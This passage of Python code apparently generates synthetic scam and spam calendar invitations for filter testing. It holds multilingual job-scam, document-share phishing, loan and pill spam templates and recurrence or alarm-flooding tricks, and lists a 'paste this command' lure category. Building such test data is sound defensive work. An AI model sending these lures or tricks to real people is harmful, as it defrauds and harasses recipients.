    m['sender']['name'] = r.choice([sl['lawyer'], 'Attorney %s' % sl['lawyer'], m['sender']['name'], 'UN Compensation Unit'])
    m['reply_to'] = (sl['lawyer'], sl['priv']) if r.random() < 0.5 else None
    if not m['reply_to']:
        m.pop('reply_to')
    org = dict(name=m['sender']['name'], addr=m['sender']['addr'])
    start, tz = when(ctx, 0, 7, hours=(6, 20), weekend=True)
    e = make_event(ctx, m, summ, desc, start, r.choice([30, 60, 1440]), tz=tz,
                   attendees=spam_att(ctx, m, org, r.choice([0, 0, 10, 40, 80])), allday=r.random() < 0.2)
    return std(ctx, m, e, subject=summ)


# ================================================================ 11. task / job scams
JOB_EN = [
    dict(summ='Remote part-time position - interview', desc='Hello,\nYour resume was recommended by an online '
         'recruitment agency. We offer a flexible remote role: 60-90 minutes a day, ${pay} daily, paid the same day.\n'
         'To schedule your interview please contact our HR manager on WhatsApp: {wa}'),
    dict(summ='Job opportunity: product rating assistant', desc='Simple online tasks rating apps and products. Earn '
         '${pay}-${pay2} per day, no experience needed.\nAdd our coordinator on Telegram {tg} and send "JOB" to start.'),
    dict(summ='Interview: Data Entry Clerk (Remote)', desc='Thank you for your application. Your interview will be '
         'held on Telegram with our hiring manager. Please add {tg} and download the app before the interview time.\n'
         'Training is paid. Equipment cheque will be mailed to you.'),
    dict(summ='Welcome to the mentorship group', desc='You have been added to our earning-mentor group. Today\'s task '
         'bonus: ${pay}. Join the session here: {url}\nQuestions: WhatsApp {wa}'),
    dict(summ='Hiring: Amazon product reviewer - ${pay}/day', desc='Work from your phone. Complete 40 tasks per set. '
         'Commission paid in USDT.\nRegister: {url}\nHR: {wa}'),
]
JOB_L = {
    'hi': dict(summ='पार्ट-टाइम जॉब – रोज़ ₹{pay} कमाएँ', desc='नमस्ते,\nघर बैठे रोज़ 1 घंटा काम करें और ₹{pay}–₹{pay2} '
               'कमाएँ। कोई अनुभव ज़रूरी नहीं।\nइंटरव्यू के लिए व्हाट्सऐप करें: {wa}'),
    'tw': dict(summ='【高薪兼職】在家工作 日領{pay}元', desc='您好，我們正在招募線上兼職人員，每天只需1小時，'
               '當日結算。\n請加LINE ID：{line} 了解詳情。'),
    'th': dict(summ='งานพาร์ทไทม์ออนไลน์ รายได้วันละ {pay} บาท', desc='สวัสดีค่ะ\nบริษัทของเรากำลังรับสมัครพนักงาน'
               'ทำงานออนไลน์ ทำงานที่บ้าน ได้เงินทุกวัน\nติดต่อ LINE: {line}'),
    'ko': dict(summ='[재택부업] 하루 1시간 일당 {pay}원', desc='안녕하세요. 간단한 상품 리뷰 작업으로 매일 '
               '수익을 드립니다.\n텔레그램 {tg} 로 "부업" 이라고 보내주세요.'),
    'ja': dict(summ='【面接のご案内】在宅ワーク（日給{pay}円）', desc='この度はご応募ありがとうございます。\n面接は'
               'LINEにて行います。下記IDを友だち追加してください。\nLINE ID：{line}'),
    'pt': dict(summ='Vaga: avaliador de produtos – R$ {pay}/dia', desc='Olá!\nTrabalho simples pelo celular, pagamento '
               'no mesmo dia via PIX.\nFale com a recrutadora no WhatsApp: {wa}'),
}


def job(ctx):
    r = ctx.rng
    m = base_msg(ctx)
    T = r.choice(JOB_EN) if ctx.lang == 'en' else JOB_L[ctx.lang]
    pays = {'en': (150, 450), 'hi': (3000, 8000), 'tw': (2000, 5000), 'th': (1000, 3500), 'ko': (100000, 300000),
            'ja': (15000, 40000), 'pt': (200, 800)}[ctx.lang]
    p1 = r.randint(*pays)
    dom = sdom(ctx, r.choice(['task', 'job', 'earn', 'work', 'hire']), r.choice(['hub', 'online', 'center', 'app']))
    sl = dict(pay='{:,}'.format(p1), pay2='{:,}'.format(int(p1 * 1.8)), wa='+%d %s' % (r.choice([1, 44, 91, 62, 234, 63]), digits(r, 10)),
              tg='@' + r.choice(['hr_', 'recruit_', 'job', 'Amy_', 'Lisa_HR']) + alnum(r, 4, 'abcdefghijklmnopqrstuvwxyz'),
              line=alnum(r, 8, 'abcdefghijklmnopqrstuvwxyz0123456789'), url='https://%s%s' % (dom, path(ctx)))
    summ, desc = fill(T['summ'], **sl), fill(T['desc'], **sl)
    if ctx.inner == 'zoom':
        hp = person(r, ctx.lang)
        m['sender'] = account(ctx, 'zoom', name=hp['name'])
        start, tz = when(ctx, 1, 5, hours=(9, 19))
        e = make_event(ctx, m, summ, desc, start, 30, tz=tz, organizer=dict(name=hp['name'], addr='%s@%s' % (hp['local'], r.choice(['gmail.com', 'outlook.com']))),
                       attendees=[dict(cn=None, addr=ctx.rcpt)])
        body = 'Hi there,\n\n%s is inviting you to a scheduled Zoom meeting.\n\nTopic: %s\nTime: %s\n\n%s\n\nJoin Zoom Meeting\nhttps://us05web.zoom.us/j/%s?pwd=%s\n' % (
            hp['name'], summ, e['start'].strftime('%b %d, %Y %I:%M %p'), desc, digits(r, 11), alnum(r, 32))
        zoom_setup(ctx, m, hp['name'], e['organizer']['addr'], summ)
        m['zoom_type'] = 'meeting_invitation'
        return std(ctx, m, e, subject=summ, body=body)
    m['sender'] = sender_for(ctx, [('free', 7), ('compromised', 2), ('vps', 1)])
    if r.random() < 0.5:
        m['sender']['name'] = r.choice(['HR Department', 'Recruitment Team', 'Talent Acquisition', m['sender']['name']])
    if ctx.inner == 'saas':
        m['sender'] = account(ctx, 'esp', name='Careers', domain=dom.rsplit('.', 1)[0] + '.com', local='careers')
    org = dict(name=m['sender']['name'], addr=m['sender']['addr'])
    start, tz = when(ctx, 0, 4, hours=(9, 20), weekend=True)
    e = make_event(ctx, m, summ, desc, start, 30, tz=tz, attendees=spam_att(ctx, m, org, r.choice([0, 0, 5, 30])))
    if ctx.inner == 'saas':
        saas_setup(ctx, m)
    return std(ctx, m, e, subject=summ)


# ================================================================ 12. document-share lures from compromised partners
DOC_EN = [
    dict(summ='{org} - {doc} shared for review', desc='Hi,\n\nPlease review the attached {doc} ahead of our call and '
         'let me know if you have any questions.\n\n{link_label}: {url}\n\nBest regards,\n{name}\n{org}'),
    dict(summ='{name} has shared a file with you', desc='{name} shared a file with you.\n\n"{doc}"\n\nOpen\n{url}\n\n'
         'This link will work for anyone.\nPrivacy Statement'),
    dict(summ='Payment advice - {doc}', desc='Good morning,\nKindly find the payment advice for your records. The '
         'document is password protected, please sign in with your email to view.\n{url}\n\nThanks,\n{name}'),
    dict(summ='RFQ {num} - kindly quote', desc='Dear partner,\nPlease see our request for quotation {num} for the '
         'items listed in the shared folder and quote your best price by Friday.\n{url}\n\n{name}\nProcurement, {org}'),
    dict(summ='Catch-up', desc='{url}\n\n{name}'),
    dict(summ='Signed contract - please countersign', desc='Hello,\nAttached is the signed contract. Please '
         'countersign at your earliest convenience.\n\nView document ({pages} pages): {url}\n\n{name}'),
]
DOC_L = {
    'it': dict(summ='{org} – documento condiviso: {doc}', desc='Buongiorno,\nin allegato il documento {doc} da '
               'visionare prima della riunione.\nApri il documento: {url}\n\nCordiali saluti,\n{name}'),
    'pl': dict(summ='Udostępniono dokument: {doc}', desc='Dzień dobry,\nprzesyłam dokument do weryfikacji przed naszym '
               'spotkaniem.\nOtwórz: {url}\n\nPozdrawiam,\n{name}\n{org}'),
    'nl': dict(summ='{name} heeft een bestand met u gedeeld', desc='Goedemiddag,\nHierbij het document "{doc}". Log in '
               'met uw zakelijke e-mailadres om het te bekijken.\n{url}\n\nMet vriendelijke groet,\n{name}'),
    'el': dict(summ='Κοινοποίηση εγγράφου: {doc}', desc='Καλημέρα,\nσας αποστέλλω το έγγραφο για έλεγχο πριν τη '
               'συνάντησή μας.\nΠροβολή: {url}\n\nΜε εκτίμηση,\n{name}'),
    'he': dict(summ='שיתוף מסמך: {doc}', desc='שלום,\nמצורף המסמך לעיונך לפני הפגישה.\nלצפייה: {url}\n\nבברכה,\n{name}\n{org}'),
    'tr': dict(summ='{name} sizinle bir dosya paylaştı', desc='Merhaba,\nToplantı öncesi incelemeniz için belgeyi '
               'paylaşıyorum.\nBelgeyi aç: {url}\n\nSaygılarımla,\n{name}\n{org}'),
}


def docshare(ctx):
    r = ctx.rng
    m = base_msg(ctx)
    T = r.choice(DOC_EN) if ctx.lang == 'en' else DOC_L[ctx.lang]
    on, odom = org_pick(ctx)
    sp = person(r, ctx.lang)
    tenant = odom.split('.')[0].replace('-', '')
    doc = r.choice(['Remittance_%s.pdf' % digits(r, 6), 'Statement of Account.pdf', 'Q%d Proposal.docx' % r.randint(1, 4),
                    'Project Specs Rev%s.pdf' % alnum(r, 1, 'ABCD'), 'Invoice %s.pdf' % digits(r, 5), 'Agreement_signed.pdf',
                    'PO-%s.xlsx' % digits(r, 5)])
    url = r.choice([
        'https://%s-my.sharepoint.com/:b:/g/personal/%s_%s/E%s?e=%s' % (tenant, sp['local'].replace('.', '_'), odom.replace('.', '_'), alnum(r, 45), alnum(r, 6)),
        'https://www.dropbox.com/scl/fi/%s/%s?rlkey=%s&dl=0' % (alnum(r, 25, 'abcdefghijklmnopqrstuvwxyz0123456789'), doc.replace(' ', '-'), alnum(r, 25, 'abcdefghijklmnopqrstuvwxyz0123456789')),
        'https://docsend.com/view/%s' % alnum(r, 16, 'abcdefghijklmnopqrstuvwxyz0123456789'),
        'https://www.canva.com/design/DAF%s/view' % alnum(r, 8),
        'https://acrobat.adobe.com/id/urn:aaid:sc:EU:%s' % uuid4(r),
        'https://%s%s' % (sdom(ctx, tenant[:6], r.choice(['docs', 'share', 'file', 'portal'])), path(ctx)),
        'https://%s.%s/%s' % (r.choice(['onedrive', 'sharepoint', 'files']), sdom(ctx, 'office', 'viewer'), alnum(r, 10)),
        'https://forms.office.com/r/%s' % alnum(r, 10),
    ])
    sl = dict(org=on, doc=doc, name=sp['name'], url=url, num='%s-%s' % (r.choice(['RFQ', 'PR']), digits(r, 5)),
              pages=r.randint(2, 14), link_label=r.choice(['View document', 'Open file', 'Access here']))
    summ, desc = fill(T['summ'], **sl), fill(T['desc'], **sl)
    m['sender'] = sender_for(ctx, [('compromised', 8), ('edu', 1), ('free', 0.5)], domains={'compromised': odom, 'edu': odom}, pers=sp)
    org = dict(name=sp['name'], addr=m['sender']['addr'])
    start, tz = when(ctx, 0, 4, hours=(9, 16))
    att = att_list(ctx, org, colleagues(ctx, ctx.rcpt_dom, r.choice([0, 0, 2, 5])) + others(ctx, r.choice([0, 3, 12])))
    e = make_event(ctx, m, summ, desc, start, r.choice([30, 60]), tz=tz, attendees=att)
    mode = r.choice(['desc', 'desc', 'attach', 'location', 'alt'])
    if mode != 'desc' and r.random() < 0.6:
        e['desc'] = desc.replace(url, '').strip()
    place(ctx, m, e, url, mode, doc)
    if ctx.inner == 'outlook' and r.random() < 0.4:
        e['teams'] = True
    if ctx.inner == 'google' and r.random() < 0.4:
        e['meet'] = 'https://meet.google.com/%s-%s-%s' % (alnum(r, 3, 'abcdefghijklmnopqrstuvwxyz'), alnum(r, 4, 'abcdefghijklmnopqrstuvwxyz'), alnum(r, 3, 'abcdefghijklmnopqrstuvwxyz'))
    return std(ctx, m, e)


# ================================================================ 13. nagging payloads (recurrence, alarms, far future)
NAG_EN = [
    dict(summ='Cialis & Viagra - 80% OFF - discreet shipping', desc='Generic ED pills from $0.89/pill. No '
         'prescription required. Worldwide discreet delivery.\n{url}'),
    dict(summ='Your loan of ${loan} is APPROVED', desc='Bad credit OK. Funds in your account within 1 hour.\nConfirm '
         'now: {url}'),
    dict(summ='500 FREE SPINS waiting 🎰', desc='Your welcome bonus: 500 free spins + 200% deposit match.\nPlay now: {url}'),
    dict(summ='Lose 12 kg in 4 weeks - doctors hate this', desc='The keto trick everyone is talking about. Limited '
         'free bottles today: {url}'),
    dict(summ='REMINDER: claim your reward', desc='This is an automatic reminder. Your reward is still unclaimed.\n{url}'),
    dict(summ='Renew your Antivirus protection NOW', desc='Your device is NOT protected. Renew today with 70% discount:\n{url}'),
]
NAG_L = {
    'zh': dict(summ='代开各类发票 正规税点 联系微信{wx}', desc='本公司常年代开增值税专用发票、普通发票，'
               '税点低，可验证后付款。\n联系人：王经理 微信：{wx}\n{url}'),
    'ru': dict(summ='Займ до {loan} ₽ без отказа', desc='Деньги на карту за 5 минут. Без справок и поручителей.\n'
               'Оформить: {url}'),
    'es': dict(summ='Préstamo aprobado: {loan} €', desc='Sin avales, sin papeleos. Dinero en tu cuenta hoy mismo.\n'
               'Confirma aquí: {url}'),
    'de': dict(summ='Potenzmittel ohne Rezept – diskreter Versand', desc='Original-Qualität ab 0,99 € pro Tablette. '
               'Lieferung in 3 Tagen.\n{url}'),
    'ar': dict(summ='خسارة الوزن بسرعة - عرض خاص اليوم', desc='منتج طبيعي لخسارة الوزن بدون رجيم. خصم 70% لفترة '
               'محدودة.\nاطلب الآن: {url}'),
}


def nag(ctx):
    r = ctx.rng
    m = base_msg(ctx)
    T = r.choice(NAG_EN) if ctx.lang == 'en' else NAG_L[ctx.lang]
    dom = sdom(ctx, r.choice(['rx', 'pharma', 'loan', 'casino', 'slim', 'spin', 'bonus', 'fp']), r.choice(['now', 'store', 'club', 'win', '24']))
    sl = dict(url=r.choice(['https://%s%s' % (dom, path(ctx)), short_url(ctx)]), loan='{:,}'.format(r.choice([2500, 5000, 15000, 30000, 50000])),
              wx='%s%s' % (alnum(r, 2, 'abcdefghijklmnopqrstuvwxyz'), digits(r, 9)))
    summ, desc = fill(T['summ'], **sl), fill(T['desc'], **sl)
    m['sender'] = sender_for(ctx, [('free', 6), ('vps', 3), ('compromised', 2)])
    org = dict(name=m['sender']['name'], addr=m['sender']['addr'])
    trick = r.choice(['daily', 'hourly', 'alarms', 'future', 'daily_alarms', 'minutely', 'past_daily'])
    if trick == 'future':
        from common import from_utc
        y = r.choice([2099, 2087, 2100, 2199, 3000]) if r.random() < 0.5 else ctx.arrival.year + r.randint(5, 40)
        start = dt.datetime(y, r.randint(1, 12), r.randint(1, 28), r.randint(0, 23), 0)
        tz = ctx.tz
    elif trick == 'past_daily':
        from common import from_utc
        b = from_utc(ctx.tz, ctx.arrival) - dt.timedelta(days=r.randint(2, 400))
        start, tz = dt.datetime(b.year, b.month, b.day, r.randint(7, 20), 0), ctx.tz
    else:
        start, tz = when(ctx, 0, 2, hours=(0, 23), weekend=True)
    e = make_event(ctx, m, summ, desc, start, r.choice([15, 30, 60, 1440]), tz=tz,
                   attendees=spam_att(ctx, m, org, r.choice([0, 0, 5, 25])))
    if trick in ('daily', 'daily_alarms', 'past_daily'):
        e['rrule'] = r.choice(['FREQ=DAILY', 'FREQ=DAILY;INTERVAL=1', 'FREQ=DAILY;COUNT=3650', 'FREQ=WEEKLY;BYDAY=MO,TU,WE,TH,FR,SA,SU'])
    elif trick == 'hourly':
        e['rrule'] = r.choice(['FREQ=HOURLY;INTERVAL=%d' % r.choice([1, 2, 3, 6]), 'FREQ=HOURLY'])
    elif trick == 'minutely':
        e['rrule'] = 'FREQ=MINUTELY;INTERVAL=%d' % r.choice([15, 30, 45])
    if trick in ('alarms', 'daily_alarms'):
        n = r.randint(6, 40)
        e['alarms'] = [dict(trigger='-PT%dM' % (i * r.choice([1, 2, 5])), desc=summ, action='DISPLAY' if i % 3 else 'AUDIO') for i in range(n)]
    elif r.random() < 0.5:
        e['alarms'] = [dict(trigger='-PT%dM' % x, desc=summ) for x in (1440, 60, 5)]
    if trick == 'future' and r.random() < 0.5:
        e['rrule'] = 'FREQ=YEARLY'
    if ctx.inner in ('lib', 'thunderbird', 'nextcloud') and r.random() < 0.45:
        e['comp'] = 'VTODO'
        e['extra'].append('PRIORITY:1')
        e['extra'].append('STATUS:NEEDS-ACTION')
    mode = r.choice(['desc', 'location', 'url'])
    place(ctx, m, e, sl['url'], mode, 'Open')
    if r.random() < 0.2:
        m['method'] = 'PUBLISH'
    return std(ctx, m, e, subject=summ, method=r.choice(['REQUEST', 'REQUEST', 'PUBLISH']))


# ================================================================ 14. mass invitations to hundreds of unrelated attendees
MASS_EN = [
    dict(summ='Get 1st page on Google in 30 days - SEO proposal', desc='Hi,\nI checked your website and found 27 '
         'errors that keep you off page 1. We guarantee top-10 rankings or your money back. Reply for a free audit.\n'
         '{url}'),
    dict(summ='Free Masterclass: How I make $10,000/month from home', desc='Join my FREE live masterclass. Spots are '
         'limited to the first 500 people.\n{url}'),
    dict(summ='BUY 10,000 Instagram followers for $9', desc='Real active followers, instant delivery, 24/7 support.\n{url}'),
    dict(summ='Happy Holidays from all of us! 🎁 Special gift inside', desc='Thank you for being part of our community! '
         'Open your holiday gift: {url}'),
    dict(summ='Exclusive VIP casino invitation', desc='You are invited to our VIP club. Deposit bonus 300% + 100 free '
         'spins. Register: {url}'),
]
MASS_L = {
    'ja': dict(summ='【副業】スマホだけで月収50万円！無料セミナー', desc='誰でもできる副業の秘密を無料で公開します。'
               '先着300名限定。\nお申し込みはこちら：{url}'),
    'th': dict(summ='บาคาร่าออนไลน์ ฝาก-ถอน ไม่มีขั้นต่ำ โบนัส 100%', desc='สมัครวันนี้รับโบนัสทันที 100% '
               'เว็บตรง ไม่ผ่านเอเย่นต์\n{url}\nไลน์: {line}'),
    'hi': dict(summ='क्रिकेट बेटिंग ऐप – पहली जमा पर 500% बोनस', desc='अभी रजिस्टर करें और तुरंत बोनस पाएँ। '
               'तेज़ निकासी, 24x7 सहायता।\n{url}'),
    'fr': dict(summ='Votre compte CPF : 1 450 € de droits à utiliser', desc='Bonjour,\nVos droits à la formation '
               'expirent bientôt. Réservez une formation gratuite avant la fin du mois :\n{url}'),
    'ko': dict(summ='[안전놀이터] 신규 가입 첫충 30% 이벤트', desc='메이저 토토사이트 신규회원 이벤트 진행중.\n'
               '가입코드: {code}\n{url}'),
}


def mass(ctx):
    r = ctx.rng
    m = base_msg(ctx)
    T = r.choice(MASS_EN) if ctx.lang == 'en' else MASS_L[ctx.lang]
    dom = sdom(ctx, r.choice(['vip', 'win', 'seo', 'grow', 'bet', 'club', 'promo']), r.choice(['pro', 'hub', 'now', '88', '']))
    sl = dict(url=r.choice(['https://%s%s' % (dom, path(ctx)), short_url(ctx)]), line='@' + alnum(r, 6, 'abcdefghijklmnopqrstuvwxyz0123456789'),
              code=digits(r, 4))
    summ, desc = fill(T['summ'], **sl), fill(T['desc'], **sl)
    if ctx.inner == 'zoom':
        hp = person(r, ctx.lang)
        m['sender'] = account(ctx, 'zoom', name=hp['name'])
        org = dict(name=hp['name'], addr='%s@%s' % (hp['local'], r.choice(['gmail.com', 'outlook.com'])))
    else:
        m['sender'] = sender_for(ctx, [('free', 7), ('compromised', 2), ('vps', 2)])
        org = dict(name=m['sender']['name'], addr=m['sender']['addr'])
    if ctx.inner == 'saas':
        m['sender'] = account(ctx, 'esp', name='Events', domain=dom.rsplit('.', 1)[0] + '.com', local='events')
        org = dict(name=m['sender']['name'], addr=m['sender']['addr'])
    n = r.randint(120, 480)
    start, tz = when(ctx, 0, 10, hours=(9, 21), weekend=True)
    att = spam_att(ctx, m, org, n, neighbours=r.random() < 0.3)
    e = make_event(ctx, m, summ, desc, start, r.choice([60, 90]), tz=tz, attendees=att)
    place(ctx, m, e, sl['url'], r.choice(['desc', 'location', 'desc']), 'Join')
    m['to'] = [(None, a['addr']) for a in att[:r.randint(1, 4)]] if r.random() < 0.3 else m['to']
    if ctx.rcpt not in [a for _, a in m['to']]:
        m['to'].append((None, ctx.rcpt)) if r.random() < 0.5 else None
    if ctx.inner == 'zoom':
        body = 'Hi,\n\nThank you for registering for "%s".\n\n%s\n\nJoin from PC, Mac, Linux, iOS or Android: https://us06web.zoom.us/w/%s?tk=%s\n' % (
            summ, desc, digits(r, 11), alnum(r, 43))
        zoom_setup(ctx, m, org['name'], org['addr'], summ)
        return std(ctx, m, e, subject='%s Confirmation' % summ, body=body)
    if ctx.inner == 'saas':
        saas_setup(ctx, m)
    return std(ctx, m, e, subject=summ)


SPAM_CATS = {
    'retail-sale-wave': (retail, 'Retail "sale" spam pushed as calendar invitations (sunglasses, bags, shoes)'),
    'prize-survey-lure': (prize, 'Gift-card / prize / survey reward lures'),
    'crypto-investment': (crypto, 'Crypto withdrawal bait, trading bots, pig-butchering style contact'),
    'dating-sextortion': (dating, 'Adult dating lures and sextortion with bitcoin ransom'),
    'fee-scam': (fee, 'Small-fee scams: parcel redelivery, tolls, tax refunds, fines, customs'),
    'credential-phish': (phish, 'Credential phishing under big brands, banks and government'),
    'callback-scam': (callback, 'Fake renewal / invoice notices with a phone number only'),
    'fake-update-lure': (update, 'Fake meeting-client updates and "paste this command" lures'),
    'bec': (bec, 'Business e-mail compromise: CEO fraud, gift cards, bank-detail and payroll changes'),
    'advance-fee': (advance, 'Advance-fee fraud: inheritances, compensation, consignments'),
    'task-job-scam': (job, 'Task / job scams moving victims to WhatsApp, Telegram or LINE'),
    'compromised-docshare': (docshare, 'Document-share lures sent from compromised partner mailboxes'),
    'nagging-payload': (nag, 'Promo payloads with endless recurrence, many alarms or far-future dates'),
    'mass-invite': (mass, 'Invitations to hundreds of unrelated attendees'),
}
